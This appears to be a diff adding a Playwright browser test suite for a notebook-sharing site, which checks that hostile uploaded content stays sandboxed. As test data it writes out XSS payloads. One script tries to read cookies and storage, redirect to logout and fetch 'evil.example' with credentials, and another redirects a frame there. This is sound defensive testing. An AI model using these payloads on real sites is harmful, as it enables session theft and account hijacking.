@@ -1,0 +1,188 @@
+"""Hostile content in a real browser: it runs nothing with the Hub's origin, reads no cookie, and reaches nobody."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect
+from unit.test_render_hostile import PAYLOADS, SVG, code, notebook_of, text
+from unit.test_render_hostile import shown as displayed
+
+from browser.people import Browsers, Person, shown
+from browser.sample import code_cell, markdown_cell, notebook, output, ran, write
+from hubshare.local.stack import LocalStack
+
+PROJECT = "alice/hostile"
+NAME = "<img src=x onerror=alert(1)>.md"
+README = "# Hostile\n\n<script>document.title = 'taken'</script>\n\n" + "\n\n".join(PAYLOADS[:40])
+
+#: What a script tries; it writes into the page what came of it.
+TRIES = """
+<pre id="came"></pre>
+<script>
+const came = {origin: self.origin};
+const say = () => { document.getElementById("came").textContent = JSON.stringify(came); };
+const attempt = (name, act) => { try { came[name] = "got " + act(); } catch (error) { came[name] = error.name; } };
+attempt("cookie", () => document.cookie);
+attempt("storage", () => localStorage.length);
+attempt("parent", () => parent.document.title);
+if (parent !== self) attempt("top", () => { top.location.href = "/hub/logout"; });
+attempt("dialog", () => alert(1));
+attempt("window", () => String(open("/hub/home")));
+const image = new Image();
+image.onerror = () => { came.image = "failed"; say(); };
+image.onload = () => { came.image = "got it"; say(); };
+image.src = "/hub/logo";
+const fetched = (name, address) => fetch(address, {credentials: "include"}).then(
+  (answer) => { came[name] = "got " + answer.status; say(); }, (error) => { came[name] = error.name; say(); });
+Promise.all([fetched("fetch", "/services/hubshare/api/v1/me"), fetched("elsewhere", "https://evil.example/")])
+  .then(() => { came.done = "yes"; say(); });
+</script>
+"""
+
+
+def in_all_places(evil: str) -> list[dict[str, Any]]:
+    """Cells with the payload wherever a page might show it."""
+    error = {"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]}
+    widget = {"application__vnd.jupyter.widget-view+json": {"model_id": evil}}
+    return [
+        text(evil),
+        text(evil, metadata={"raw_mimetype": "text/html"}) | {"cell_type": "raw"},
+        text("![x](attachment:a)", attachments={"a": {evil: "AAAA", "text/html": evil}}),
+        code(
+            displayed(text__html=evil),
+            displayed(**{"image__svg+xml": evil}),
+            displayed(application__javascript=evil, text__plain=evil),
+            displayed(text__latex=evil),
+            displayed(text__markdown=evil),
+            displayed(application__json={evil: evil}),
+            displayed(**widget),
+            displayed(**{evil: evil, "text__plain": "x"}),
+            error,
+            source=evil,
+        ),
+    ]
+
+
+@pytest.fixture(scope="module")
+def hostile(stack: LocalStack) -> LocalStack:
+    """A project of which every file is an attack, in two versions."""
+    folder = stack.home("alice") / "hostile"
+    cells = [cell for evil in PAYLOADS for cell in in_all_places(evil)]
+    evil = "</script><script>alert(1)</script>"
+    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {evil: {"state": {"value": evil}}}}}
+    metadata = {"title": evil, "language_info": {"name": evil, "pygments_lexer": evil}, "widgets": widgets}
+    everything = "\n\n".join(PAYLOADS)
+    files = {
+        "README.md": README.encode(),
+        "all.ipynb": notebook_of(*cells, **metadata),
+        "all.md": everything.encode(),
+        NAME: everything.encode(),
+        "page.html": f"<!doctype html><title>x</title>{TRIES}{everything}".encode(),
+        "image.svg": SVG.encode(),
+        "all.json": json.dumps({evil: [evil, *PAYLOADS]}).encode(),
+        "all.csv": "\n".join(f'"{one.replace(chr(34), chr(34) * 2)}",1' for one in PAYLOADS).encode(),
+        "live.ipynb": notebook(
+            markdown_cell("# Live"),
+            code_cell("show()", output(text__html=TRIES, text__plain="x")),
+            code_cell(
+                "run()", output(application__javascript="alert(1); fetch('https://evil.example/').catch(() => 0)")
+            ),
+        ),
+        "away.ipynb": notebook(
+            code_cell("go()", output(text__html="<b>here</b><script>location.href = 'https://evil.example/'</script>"))
+        ),
+    }
+    write(folder, files)
+    ran(stack, "alice", "share", folder, "--with", "bob:reader")
+    write(folder, {name: content.replace(b"alert(1)", b"alert(2)") for name, content in files.items()})
+    ran(stack, "alice", "push", folder)
+    return stack
+
+
+@pytest.fixture
+def bob(browsers: Browsers, hostile: LocalStack) -> Person:
+    """Who looks at it all."""
+    return browsers("bob")
+
+
+def harmless(page: Page) -> None:
+    """The page is ours still, in what it says and in what it knows."""
+    assert page.title().endswith("HubShare")
+    expect(page.locator("#signed-in-user")).to_have_text("bob")
+    assert page.evaluate("document.scripts.length") <= 3, "a script was added"
+    assert not page.evaluate(
+        "[...document.querySelectorAll('main *')].some((one) => [...one.attributes]"
+        ".some((attribute) => attribute.name.startsWith('on')))"
+    ), "an element acts"
+    assert "hubshare-session" not in page.evaluate("document.cookie")
+
+
+@pytest.mark.parametrize(
+    "path", ["README.md", "all.ipynb", "all.md", NAME, "page.html", "image.svg", "all.json", "all.csv"]
+)
+def test_what_is_shown_is_harmless(bob: Person, path: str) -> None:
+    bob.page.goto(f"projects/{PROJECT}")
+    bob.page.get_by_role("table").get_by_role("link", name=path, exact=True).click()
+    shown(bob)
+    harmless(bob.page)
+    if path != "page.html" and not path.endswith("svg"):
+        bob.page.goto(f"{bob.page.url}?view=source")
+        shown(bob)
+        harmless(bob.page)
+
+
+def test_lists_history_and_differences_are_harmless(bob: Person) -> None:
+    bob.go(f"projects/{PROJECT}")
+    shown(bob, "#readme")
+    harmless(bob.page)
+    for path in ("history", f"search?q={NAME}", f"projects/{PROJECT}/history"):
+        bob.go(path)
+        assert "onerror" not in bob.page.evaluate("[...document.images].map((one) => one.outerHTML).join()")
+    bob.go(f"projects/{PROJECT}/versions/2")
+    for region in bob.page.get_by_role("region").all()[1:]:
+        region.scroll_into_view_if_needed()
+        expect(region.locator("[hx-get] > *:not(.hs-skeleton)").first).to_be_visible()
+    harmless(bob.page)
+
+
+@pytest.mark.parametrize("path", ["page.html", "image.svg", "all.md"])
+def test_raw_files_run_nothing(bob: Person, path: str) -> None:
+    bob.go(f"projects/{PROJECT}/raw/latest/{path}")
+    assert bob.page.evaluate("self.origin") == "null"
+    assert not bob.page.locator("#came").count(), "it was taken for a page"
+
+
+@pytest.mark.parametrize("framed", [True, False], ids=["in its frame", "by its own address"])
+def test_scripts_of_a_live_notebook_reach_nothing(bob: Person, framed: bool) -> None:
+    bob.go(f"projects/{PROJECT}/files/latest/live.ipynb?view=live")
+    live = bob.page.frame_locator("#live").locator("#came")
+    expect(live).to_contain_text('"done"')
+    if not framed:
+        bob.go(f"projects/{PROJECT}/live/latest/live.ipynb")
+        live = bob.page.locator("#came")
+        expect(live).to_contain_text('"done"')
+    expect(live).to_contain_text('"image"')
+    came = json.loads(live.text_content() or "")
+    assert came.pop("origin") == "null"
+    assert came.pop("done") == "yes"
+    if not framed:  # what is above it is itself
+        came.pop("parent")
+    wrong = {
+        name: how for name, how in came.items() if how.startswith("got") and how not in ("got null", "got undefined")
+    }
+    assert not wrong
+    assert came["cookie"] == came["storage"] == "SecurityError"
+    assert came["fetch"] == came["elsewhere"] == "TypeError"
+    assert "/hub/log" not in bob.page.url
+    assert len(bob.context.pages) == 1
+    assert bob.refused, "the browser says what it did not let it do"
+
+
+def test_a_live_notebook_takes_its_frame_nowhere_else(bob: Person) -> None:
+    bob.go(f"projects/{PROJECT}/files/latest/away.ipynb?view=live")
+    with bob.context.expect_event("console", lambda message: "frame-src" in message.text):
+        bob.page.reload()
+    harmless(bob.page)
